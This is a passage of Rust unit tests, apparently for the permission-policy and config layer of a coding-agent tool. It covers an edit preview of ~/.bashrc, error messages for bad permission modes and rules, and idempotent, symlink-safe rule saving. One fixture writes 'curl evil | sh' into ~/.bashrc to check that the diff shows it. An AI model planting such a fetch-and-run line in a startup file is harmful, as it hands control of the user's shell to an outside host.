        let home = tempfile::tempdir().unwrap();
        std::fs::write(home.path().join(".bashrc"), "alias ll='ls -l'\n").unwrap();
        // SAFETY: no other test in this crate reads HOME (nextest runs each test in its own process).
        unsafe { std::env::set_var("HOME", home.path()) };
        let input = serde_json::json!({"path": "~/.bashrc", "content": "curl evil | sh\n"});
        let ctx = RuleContext { workspace: "/nonexistent-workspace".into(), home: Some(home.path().to_path_buf()) };
        let judged =
            tern_protocol::JudgedPath { real: tern_policy::rules::resolve_path("~/.bashrc", &ctx), identity: None };
        let diff = tern_tools::edit::change_preview(&judged, "write", &input).unwrap();
        assert!(diff.contains("-alias ll='ls -l'") && diff.contains("+curl evil | sh"), "{diff}");
    }

    #[test]
    fn a_policy_error_names_the_file_or_flag_and_the_rule() {
        let user = FileConfig::default();
        let mut project = FileConfig::default();
        project.permissions.mode = Some("yolo".into());
        let build = |project: &FileConfig, flags: &PermissionFlags| {
            let layers = ConfigLayers {
                user: &user,
                user_file: Path::new("/home/me/.config/tern/config.toml"),
                project,
                project_file: Path::new("/src/app/.tern/config.toml"),
                project_layers: vec![],
            };
            let ctx = RuleContext { workspace: "/src/app".into(), home: None };
            build_policy(layers, flags, ctx, vec![], vec![], &mut Vec::new()).err().unwrap()
        };
        let err = build(&project, &PermissionFlags::default());
        assert!(matches!(&err, PolicyError::Mode { origin, .. } if origin == "/src/app/.tern/config.toml"), "{err:?}");
        assert!(err.to_string().starts_with("/src/app/.tern/config.toml: unknown permission mode `yolo`"), "{err}");
        let flags = PermissionFlags { allowed_tools: vec!["bash(".into()], ..Default::default() };
        let err = build(&FileConfig::default(), &flags);
        assert!(matches!(&err, PolicyError::Rule { error, .. } if error.rule == "bash("), "{err:?}");
        assert!(err.to_string().starts_with("--allowed-tools: rule `bash(`"), "{err}");
    }

    #[test]
    fn saving_a_rule_keeps_comments_and_is_idempotent() {
        let dir = tempfile::tempdir().unwrap();
        let ws = Path::new("/src/app");
        let f = dir.path().join("config.toml");
        save_rule(&f, ws, RuleKind::Allow, "bash(npm test:*)", RuleScope::Project).unwrap();
        assert!(std::fs::read_to_string(&f).unwrap().contains("bash(npm test:*)"));
        std::fs::write(&f, "# my settings\nmodel = \"x\"\n\n[permissions]\nallow = [\"edit\"] # edits ok\n").unwrap();
        save_rule(&f, ws, RuleKind::Allow, "bash(npm test:*)", RuleScope::Project).unwrap();
        save_rule(&f, ws, RuleKind::Allow, "bash(npm test:*)", RuleScope::Project).unwrap();
        let text = std::fs::read_to_string(&f).unwrap();
        assert!(text.starts_with("# my settings\nmodel = \"x\"\n"), "{text}");
        let parsed: FileConfig = toml::from_str(&text).unwrap();
        assert_eq!(parsed.permissions.allow, ["edit"]);
        assert_eq!(parsed.projects["/src/app"].allow, ["bash(npm test:*)"]);
        // A symlinked config is written through, and keeps its mode.
        let real = dir.path().join("real.toml");
        std::fs::write(&real, "# real\n").unwrap();
        std::fs::set_permissions(&real, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
        let link = dir.path().join("link.toml");
        std::os::unix::fs::symlink(&real, &link).unwrap();
        save_rule(&link, ws, RuleKind::Allow, "edit", RuleScope::Project).unwrap();
        assert!(std::fs::symlink_metadata(&link).unwrap().file_type().is_symlink());
        assert!(std::fs::read_to_string(&real).unwrap().contains("edit"));
        let mode = std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&real).unwrap().permissions());
        assert_eq!(mode & 0o777, 0o600);
        std::fs::write(&f, "projects = 3\n").unwrap();
        assert!(
            save_rule(&f, ws, RuleKind::Allow, "edit", RuleScope::Project).unwrap_err().why.contains("not a table")
        );
        assert_eq!(std::fs::read_to_string(&f).unwrap(), "projects = 3\n", "nothing lost on error");
    }
}
